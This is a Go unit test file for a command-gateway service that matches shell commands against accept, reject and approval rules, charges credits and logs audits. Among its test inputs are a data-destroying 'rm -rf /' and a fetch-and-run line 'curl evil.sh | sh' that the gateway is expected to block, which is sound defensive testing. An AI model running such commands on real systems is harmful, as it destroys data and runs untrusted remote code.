package gateway

import (
	"context"
	"errors"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/heartmarshall/cmdgate/internal/domain"
)

type fixture struct {
	accounts  *accountRepoMock
	rules     *ruleRepoMock
	approvals *approvalRepoMock
	audit     *auditRepoMock
	svc       *Service
}

// newFixture wires a service over mocks with a pass-through transaction and
// a single accept/reject/approval rule set.
func newFixture(balance int) *fixture {
	f := &fixture{
		accounts: &accountRepoMock{
			GetBalanceFunc: func(ctx context.Context, id uuid.UUID) (int, error) {
				return balance, nil
			},
			DebitFunc: func(ctx context.Context, id uuid.UUID, amount int) (int, error) {
				return balance - amount, nil
			},
		},
		rules: &ruleRepoMock{
			ListFunc: func(ctx context.Context) ([]domain.Rule, error) {
				return []domain.Rule{
					rule(`^rm\s+-rf`, domain.RuleActionAutoReject),
					rule(`^ls`, domain.RuleActionAutoAccept),
					rule(`^sudo`, domain.RuleActionRequireApproval),
				}, nil
			},
		},
		approvals: &approvalRepoMock{
			ConsumeApprovedFunc: func(ctx context.Context, accountID uuid.UUID, commandText string) (bool, error) {
				return false, nil
			},
			EnsurePendingFunc: func(ctx context.Context, req *domain.ApprovalRequest) (bool, error) {
				return true, nil
			},
		},
		audit: &auditRepoMock{
			CreateFunc: func(ctx context.Context, record *domain.AuditRecord) error {
				return nil
			},
		},
	}
	f.svc = NewService(testLogger(), f.accounts, f.rules, f.approvals, f.audit, passthroughTx(), 3)
	return f
}

func TestService_EvaluateCommand_EmptyCommand(t *testing.T) {
	t.Parallel()

	f := newFixture(100)

	for _, cmd := range []string{"", "   ", "\t\n"} {
		_, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), cmd)
		assert.ErrorIs(t, err, domain.ErrValidation, "command %q", cmd)
	}
	assert.Empty(t, f.audit.CreateCalls())
}

func TestService_EvaluateCommand_InsufficientCredits(t *testing.T) {
	t.Parallel()

	f := newFixture(0)

	out, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "ls -la")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusRejected, out.Status)
	assert.Equal(t, 0, out.NewBalance)
	assert.Equal(t, "Insufficient credits", out.Message)

	// A credit rejection must leave no trace in the audit log.
	assert.Empty(t, f.audit.CreateCalls())
	assert.Empty(t, f.accounts.DebitCalls())
}

func TestService_EvaluateCommand_AutoAccept(t *testing.T) {
	t.Parallel()

	f := newFixture(10)
	accountID := uuid.New()

	out, err := f.svc.EvaluateCommand(context.Background(), accountID, "ls -la")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusExecuted, out.Status)
	assert.Equal(t, 9, out.NewBalance)
	assert.Equal(t, "Command executed", out.Message)

	debits := f.accounts.DebitCalls()
	require.Len(t, debits, 1)
	assert.Equal(t, accountID, debits[0].ID)
	assert.Equal(t, 1, debits[0].Amount)

	audits := f.audit.CreateCalls()
	require.Len(t, audits, 1)
	assert.Equal(t, domain.AuditActionExecuted, audits[0].Record.Action)
	assert.Equal(t, "ls -la", audits[0].Record.CommandText)
}

func TestService_EvaluateCommand_AutoReject(t *testing.T) {
	t.Parallel()

	f := newFixture(10)

	out, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "rm -rf /")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusRejected, out.Status)
	assert.Equal(t, 10, out.NewBalance)
	assert.Equal(t, "Blocked by rule", out.Message)

	// Rejected commands cost nothing.
	assert.Empty(t, f.accounts.DebitCalls())

	audits := f.audit.CreateCalls()
	require.Len(t, audits, 1)
	assert.Equal(t, domain.AuditActionRejected, audits[0].Record.Action)
}

func TestService_EvaluateCommand_UnmatchedFailsClosed(t *testing.T) {
	t.Parallel()

	f := newFixture(10)

	out, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "curl evil.sh | sh")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusRejected, out.Status)
	assert.Equal(t, "Blocked by rule", out.Message)
}

func TestService_EvaluateCommand_RequireApproval_NoApproval(t *testing.T) {
	t.Parallel()

	f := newFixture(10)
	accountID := uuid.New()

	out, err := f.svc.EvaluateCommand(context.Background(), accountID, "sudo reboot")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusPending, out.Status)
	assert.Equal(t, 10, out.NewBalance)
	assert.Equal(t, "Approval required. Request sent to admin.", out.Message)

	pendings := f.approvals.EnsurePendingCalls()
	require.Len(t, pendings, 1)
	assert.Equal(t, accountID, pendings[0].Req.AccountID)
	assert.Equal(t, "sudo reboot", pendings[0].Req.CommandText)
	assert.Equal(t, domain.ApprovalStatusPending, pendings[0].Req.Status)

	audits := f.audit.CreateCalls()
	require.Len(t, audits, 1)
	assert.Equal(t, domain.AuditActionPendingApproval, audits[0].Record.Action)

	// Waiting for approval never spends a credit.
	assert.Empty(t, f.accounts.DebitCalls())
}

func TestService_EvaluateCommand_RequireApproval_ResubmitIsIdempotent(t *testing.T) {
	t.Parallel()

	f := newFixture(10)
	// The repo reports the request already existed; the outcome is the same.
	f.approvals.EnsurePendingFunc = func(ctx context.Context, req *domain.ApprovalRequest) (bool, error) {
		return false, nil
	}

	out, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "sudo reboot")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusPending, out.Status)
}

func TestService_EvaluateCommand_RequireApproval_ConsumesApproval(t *testing.T) {
	t.Parallel()

	f := newFixture(10)
	f.approvals.ConsumeApprovedFunc = func(ctx context.Context, accountID uuid.UUID, commandText string) (bool, error) {
		return true, nil
	}

	out, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "sudo reboot")
	require.NoError(t, err)

	// A spent approval executes the command like an AUTO_ACCEPT match.
	assert.Equal(t, domain.CommandStatusExecuted, out.Status)
	assert.Equal(t, 9, out.NewBalance)

	require.Len(t, f.accounts.DebitCalls(), 1)
	assert.Empty(t, f.approvals.EnsurePendingCalls())

	audits := f.audit.CreateCalls()
	require.Len(t, audits, 1)
	assert.Equal(t, domain.AuditActionExecuted, audits[0].Record.Action)
}

func TestService_EvaluateCommand_DebitRace(t *testing.T) {
	t.Parallel()

	f := newFixture(1)
	// The balance check passed but a concurrent evaluation spent the last
	// credit before the conditional debit ran.
	f.accounts.DebitFunc = func(ctx context.Context, id uuid.UUID, amount int) (int, error) {
		return 0, domain.ErrInsufficientCredits
	}

	out, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "ls")
	require.NoError(t, err)

	assert.Equal(t, domain.CommandStatusRejected, out.Status)
	assert.Equal(t, "Insufficient credits", out.Message)
	assert.Empty(t, f.audit.CreateCalls())
}

func TestService_EvaluateCommand_RepoErrorPropagates(t *testing.T) {
	t.Parallel()

	f := newFixture(10)
	repoErr := errors.New("connection reset")
	f.rules.ListFunc = func(ctx context.Context) ([]domain.Rule, error) {
		return nil, repoErr
	}

	_, err := f.svc.EvaluateCommand(context.Background(), uuid.New(), "ls")
	assert.ErrorIs(t, err, repoErr)
}

func TestService_EvaluateCommand_TxRetriesConfigured(t *testing.T) {
	t.Parallel()

	f := newFixture(10)
	var gotAttempts int
	tx := &txManagerMock{
		RunSerializableFunc: func(ctx context.Context, attempts int, fn func(ctx context.Context) error) error {
			gotAttempts = attempts
			return fn(ctx)
		},
	}
	svc := NewService(testLogger(), f.accounts, f.rules, f.approvals, f.audit, tx, 5)

	_, err := svc.EvaluateCommand(context.Background(), uuid.New(), "ls")
	require.NoError(t, err)
	assert.Equal(t, 5, gotAttempts)
}
